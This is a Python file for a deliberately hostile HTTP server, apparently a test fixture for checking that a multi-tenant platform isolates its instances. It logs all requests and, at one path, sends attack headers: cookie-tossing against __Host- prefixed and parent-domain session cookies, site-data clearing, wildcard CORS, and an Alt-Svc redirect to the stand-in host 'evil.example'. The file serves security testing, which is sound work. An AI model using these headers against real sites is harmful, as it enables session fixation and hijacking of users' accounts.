"""An app that means harm. It prints all that it receives, and its pages attack the store and sibling instances."""

import json
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

HERE = Path(__file__).parent

PAGE = b"""<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Hostile</title></head>
<body><h1>Hostile</h1><pre id="result"></pre><script src="/attacks.js"></script></body></html>"""

# What a server can say to a browser in the hope that it counts for more than this host.
HEADERS = [
    ("Set-Cookie", "__Host-wave-ticket=planted; Path=/; Secure"),
    ("Set-Cookie", "__HOST-wave-session=planted; Path=/; Secure"),
    ("Set-Cookie", "=__Host-wave-ticket=nameless; Path=/; Secure"),
    ("Set-Cookie", "wide=planted; Path=/; Domain=%(parent)s"),
    ("Set-Cookie", "wave-oidc-session=planted; Path=/; Domain=%(parent)s"),
    ("Set-Cookie", "own=fine; Path=/"),
    ("Clear-Site-Data", '"cookies", "executionContexts"'),
    ("Access-Control-Allow-Origin", "*"),
    ("Alt-Svc", 'h2="evil.example:443"'),
]


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        split = urlsplit(self.path)
        query = parse_qs(split.query)
        if split.path == "/echo":
            return self.answer(json.dumps({"path": self.path, "headers": list(self.headers.items())}).encode())
        if split.path == "/planted":
            parent = query.get("parent", [""])[0]
            return self.answer(PAGE, "text/html", [(name, value % {"parent": parent}) for name, value in HEADERS])
        if split.path in ("/attacks.js", "/worker.js"):
            return self.answer((HERE / split.path[1:]).read_bytes(), "text/javascript")
        return self.answer(PAGE, "text/html")

    do_POST = do_GET

    def answer(self, body, media_type="application/json", headers=()):
        print("received", self.command, self.path, json.dumps(list(self.headers.items())), flush=True)
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.send_response(200)
        self.send_header("Content-Type", media_type)
        self.send_header("Content-Length", str(len(body)))
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)


ThreadingHTTPServer(("0.0.0.0", 8000), Handler).serve_forever()
